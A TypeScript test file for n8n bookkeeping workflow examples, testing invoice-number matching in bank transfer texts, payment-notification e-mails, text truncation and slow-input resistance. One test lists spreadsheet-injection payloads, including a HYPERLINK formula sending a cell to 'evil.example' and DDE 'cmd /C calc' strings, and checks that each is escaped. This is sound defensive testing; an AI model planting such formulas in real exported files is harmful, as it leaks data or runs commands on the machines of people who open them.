/**
 * What others write (senders of e-mails and transfers, suppliers, customers) in the examples' own expressions. CI runs this
 * on both of n8n's engines for expressions.
 */
import type { IDataObject } from 'n8n-workflow';
import { describe, expect, it } from 'vitest';

import { fieldsOf, parametersOf } from '../support/exampleNode.mjs';
import { jsonAs } from '../support/partial.mjs';

/** Each finds out whether an invoice number is in the text of a transfer. */
const FINDS_NUMBER: Array<[example: string, finds: (beleg: string, text: string) => Promise<boolean>]> = [
	['open-items-bank', async (beleg, text) => (await statusOf(beleg, [[text, 119]])).status === 'bezahlt'],
	['payment-open-item', async (beleg, text) => await isInPayment('payment-open-item', beleg, text)],
	['payments-item', async (beleg, text) => await isInPayment('payments-item', beleg, text)],
	['incoming-payment', isInIncoming],
];

/** An open item over 119.00, as the bank example judges it. */
async function statusOf(beleg: string, transfers: Array<[text: string, amount: number]>) {
	const item = { beleg, belegdatum: '2026-11-01', isDebitor: true, saldo: 119, stichtag: '2026-11-20' };
	const outputs = {
		Settings: [{ zahlungsziel: 30 }],
		'Bank transactions': transfers.map(([description, amount]) => ({ description, amount })),
	};
	const payment = await fieldsOf('open-items-bank', 'Payment', { json: item, outputs });
	return await fieldsOf('open-items-bank', 'Status', { json: { ...item, ...payment }, outputs });
}

async function isInPayment(example: string, beleg: string, description: string): Promise<boolean> {
	const event = { data: { payment_attributes: { amount: '119.00', description } } };
	const outputs = { 'Payment update': [event], 'When called': [event] };
	return (await fieldsOf(example, 'Compare', { json: { beleg, saldo: -119 }, outputs })).sameNumber as boolean;
}

async function isInIncoming(beleg: string, description: string): Promise<boolean> {
	const json = { payment: { amount: 119, description }, items: [{ beleg, saldo: 119 }] };
	const { numbered } = await fieldsOf('incoming-payment', 'Compare', { json });
	return (numbered as unknown[]).length > 0;
}

describe.each(FINDS_NUMBER)('an invoice number in the text of a transfer: %s', (_, finds) => {
	it.each([
		['RE-1007', 'Rechnung RE-1007 vom 1.11.'],
		['RE-1007', 'rechnung re-1007'],
		['RE-1007', 'RE-1007.'],
		['RE-1007', 'RE-1006,RE-1007,RE-1008'],
		['RE-1007', 'RE-1006/RE-1007'],
		['70006/240066', 'Abschlag auf 70006/240066'],
		['4711', 'Rg. 4711 Kd-Nr. 9'],
		['4711', 'Rg-4711'],
		['(RE+1007)', 'für (RE+1007)'],
		['RE-100', 'nicht RE-1007, sondern RE-100'],
	])('%s is in "%s"', async (beleg, text) => {
		expect(await finds(beleg, text)).toBe(true);
	});

	it.each([
		['RE-100', 'Rechnung RE-1007'],
		['RE-100', 'Rechnung ARE-100'],
		['RE-100', 'Rechnung RE-100a'],
		['RE-100', 'Rechnung RE-100-2'],
		['2026/100', 'Rechnung 2026/100/2'],
		['100', 'Rechnung 2026-100'],
		['100', 'Rechnung 100100'],
		['100', 'Rechnung 1.100'],
		['RE.100', 'Rechnung RE-100'],
		['RE(1+0)0*100', 'Rechnung RE100'],
		// A number of two digits says nothing.
		['12', 'Rechnung 12'],
	])('%s isn’t in "%s"', async (beleg, text) => {
		expect(await finds(beleg, text)).toBe(false);
	});

	it('no number, no text', async () => {
		expect(await finds('', 'Miete')).toBe(false);
		expect(await finds('RE-1007', '')).toBe(false);
		expect(await finds(jsonAs(undefined), jsonAs(undefined))).toBe(false);
	});
});

it('open items and the bank: of two transfers that name the number, the one with the amount counts', async () => {
	const text = 'Rechnung RE-1007';
	expect(await statusOf('RE-1007', [[text, 60], [text, 119]])).toMatchObject({
		status: 'bezahlt',
		zahlung: { amount: 119 },
	});
	expect(await statusOf('RE-1007', [[text, 60]])).toMatchObject({ status: 'prüfen' });
	expect(await statusOf('RE-1007', [['Miete', 119]])).toMatchObject({ status: 'prüfen' });
	expect(await statusOf('RE-1007', [['Miete', 60]])).toMatchObject({ status: 'offen' });
});

describe('a cell of a file that a spreadsheet opens', () => {
	const OUTPUTS = { Settings: [{ zahlungsziel: 30 }] };
	/** What others have written into an item, by the columns that show it. */
	const CELLS: Array<[example: string, node: string, column: string, item: (text: string) => IDataObject]> = [
		['open-items-bank', 'Columns', 'Konto', (kontonummer) => ({ kontonummer })],
		['open-items-bank', 'Columns', 'Name', (bezeichnung) => ({ bezeichnung })],
		['open-items-bank', 'Columns', 'Beleg', (beleg) => ({ beleg })],
		['open-items-bank', 'Columns', 'Text', (description) => ({ zahlung: { description, amount: 1 } })],
		['overdue-debtors', 'Columns', 'Konto', (kontonummer) => ({ kontonummer })],
		['overdue-debtors', 'Columns', 'Name', (bezeichnung) => ({ bezeichnung })],
		['trial-balance', 'Columns', 'Konto', (kontonummer) => ({ kontonummer })],
		['trial-balance', 'Columns', 'Beschriftung', (kontobeschriftung) => ({ kontobeschriftung })],
		// With Verify, too, the time is as delivered.
		['payments-list', 'Row', 'time', (received_at) => ({ received_at, data: { payment_attributes: {} } })],
		['payments-list', 'Row', 'payee', (name) => ({ data: { payment_attributes: { creditor_name: name } } })],
	];
	const cell = async (example: string, node: string, column: string, item: IDataObject) =>
		(await fieldsOf(example, node, { json: { saldo: 1, sum_saldo: 1, ...item }, outputs: OUTPUTS }))[column];

	it.each(CELLS)('%s, %s, %s: is never a formula', async (example, node, column, item) => {
		for (const text of [
			'=HYPERLINK("http://evil.example?"&A1;"Rechnung")',
			"=1+cmd|' /C calc'!A0",
			"+1+cmd|' /C calc'!A0",
			"-1+cmd|' /C calc'!A0",
			'+49 30 1234',
			'@SUM(1+1)',
			'\t=1+1',
			'\r=1+1',
			'\n=1+1',
			'-',
		]) {
			expect(await cell(example, node, column, item(text))).toBe(`'${text}`);
		}
	});

	it.each(CELLS)('%s, %s, %s: stays as it is where it is none', async (example, node, column, item) => {
		for (const text of ['Bäckerei =Glück=', 'RE-1007', '10000', '-119,00', '+1.234,50', "'s Lädle"]) {
			expect(await cell(example, node, column, item(text))).toBe(text);
		}
	});

	it('a column is covered by these tests, or holds nothing that others have written', async () => {
		// Amounts and dates are made in the example itself.
		const own = ['Status', 'Belegdatum', 'Fällig', 'Offen', 'Zahlung am', 'Betrag', 'Posten', 'EB-Wert', 'Umsatz'];
		const own2 = ['Saldo', 'Ältester Posten (Tage überfällig)', 'time', 'payment', 'status', 'amount'];
		for (const [example, node] of CELLS) {
			const columns = Object.keys(await fieldsOf(example, node, { json: { saldo: 1, sum_saldo: 1 }, outputs: OUTPUTS }));
			const covered = CELLS.filter(([one]) => one === example).map(([, , column]) => column);
			expect(columns.filter((column) => ![...covered, ...own, ...own2].includes(column))).toEqual([]);
		}
	});
});

describe('a text that is too long', () => {
	/** In the e-mail example, a node before the upload makes the note. */
	async function noteOf(example: string, given: Parameters<typeof parametersOf>[2]) {
		const { additionalFields } = (await parametersOf(example, 'Upload the documents', {
			...given,
			json: example === 'receipts-email' ? await fieldsOf(example, 'Invoice', ofEmail(given.json)) : given.json,
		})) as { additionalFields: { belegnotiz: string } };
		return additionalFields.belegnotiz;
	}
	const ofEmail = (email?: IDataObject) => ({
		json: { isEInvoice: false },
		outputs: { 'One item per file': [email ?? {}] },
		from: 'One item per file',
	});

	it.each([
		['receipts-email', (text: string) => ({ json: { subject: text } })],
		['receipts-folder', (text: string) => ({ json: { fileName: `${text}.pdf`, fileExtension: 'pdf' } })],
	])('%s: is cut between characters', async (example, given) => {
		const start = 'x'.repeat(59);
		expect(await noteOf(example, given(`${start}🧾🧾`))).toBe(`${start}🧾`);
		expect(await noteOf(example, given(`${start}é🧾`))).toBe(`${start}é`);
		expect(await noteOf(example, given('Rechnung 4711'))).toBe('Rechnung 4711');
	});

	it('an e-mail without a subject has no note', async () => {
		expect(await noteOf('receipts-email', { json: {} })).toBe('');
	});

	it.each([
		['receipts-folder', '.'.repeat(200_000)],
		['receipts-folder', '.a'.repeat(100_000)],
		['receipts-folder', `.${'a'.repeat(200_000)}.`],
	])('%s: a hostile file name takes no time', async (example, fileName) => {
		const start = performance.now();
		await noteOf(example, { json: { fileName, fileExtension: 'pdf' } });
		expect(performance.now() - start).toBeLessThan(2000);
	});

	it.each(FINDS_NUMBER)('%s: a hostile text of a transfer takes no time', async (_, finds) => {
		const beleg = `${'R1-'.repeat(11)}100`;
		const start = performance.now();
		for (const text of [beleg, 'R1-', 'R', '1', ' R1']) await finds(beleg, text.repeat(200_000 / text.length));
		expect(performance.now() - start).toBeLessThan(5000);
	});
});

describe.each([
	['payment-open-item', 'Payment update'],
	['payments-item', 'When called'],
])('a settled payment: %s', (example, trigger) => {
	const attributes = {
		amount: '1244.99',
		currency_code: 'EUR',
		description: 'Rechnung 70006/240066',
		creditor_name: 'Backtechnik Schreiber e. K.',
	};
	/** The e-mail that comes of these open items. */
	async function message(items: IDataObject[], payment: IDataObject = attributes) {
		const outputs = {
			[trigger]: [{ data: { payment_attributes: payment } }],
			'Open items of suppliers': items,
		};
		const compared = await Promise.all(
			items.map(async (json) => await fieldsOf(example, 'Compare', { json, outputs })),
		);
		const kept = compared.filter(({ sameAmount, sameNumber }) => sameAmount || sameNumber);
		return await fieldsOf(example, 'Message', { json: { items: kept.length ? kept : [{}] }, outputs });
	}
	const item = {
		kontonummer: '70006',
		bezeichnung: 'Backtechnik Schreiber e. K.',
		beleg: '70006/240066',
		belegdatum: '2024-12-11',
		saldo: -1244.99,
	};

	it('names the open item, in German', async () => {
		expect(await message([item, { ...item, beleg: '70006/24', saldo: -3 }])).toEqual({
			subject: 'Zahlung ausgeführt: Backtechnik Schreiber e. K., 1.244,99 EUR',
			text:
				'Verwendungszweck: Rechnung 70006/240066\n\n' +
				'Sie gleicht aus: 70006/240066 vom 11.12.2024, Backtechnik Schreiber e. K., offen 1.244,99 EUR',
		});
	});

	it('says what speaks for an item, and what against it', async () => {
		const { text } = await message([
			{ ...item, saldo: -2000 },
			{ ...item, beleg: 'RE-9999' },
			{ ...item, beleg: '' },
		]);
		expect(text).toContain('Gleiche Nummer, aber ein anderer Betrag: 70006/240066 vom 11.12.2024');
		expect(text).toContain('offen 2.000,00 EUR');
		expect(text).toContain('Gleicher Betrag, aber die Nummer steht nicht im Verwendungszweck: RE-9999 vom');
		expect(text).toContain('Gleicher Betrag, aber die Nummer steht nicht im Verwendungszweck: ohne Nummer vom');
	});

	it('says that nothing fits', async () => {
		const { text } = await message([{ ...item, beleg: 'RE-9999', saldo: -1 }]);
		expect(text).toContain('Kein offener Posten eines Lieferanten hat diesen Betrag oder diese Nummer.');
	});

	it('says that no item is open at all, of a payment of which little is known', async () => {
		const { subject, text } = await message([{}], {});
		expect(subject).toContain('Zahlung ausgeführt');
		expect(text).toContain('Bei keinem Lieferanten ist zurzeit ein Posten offen.');
	});
});
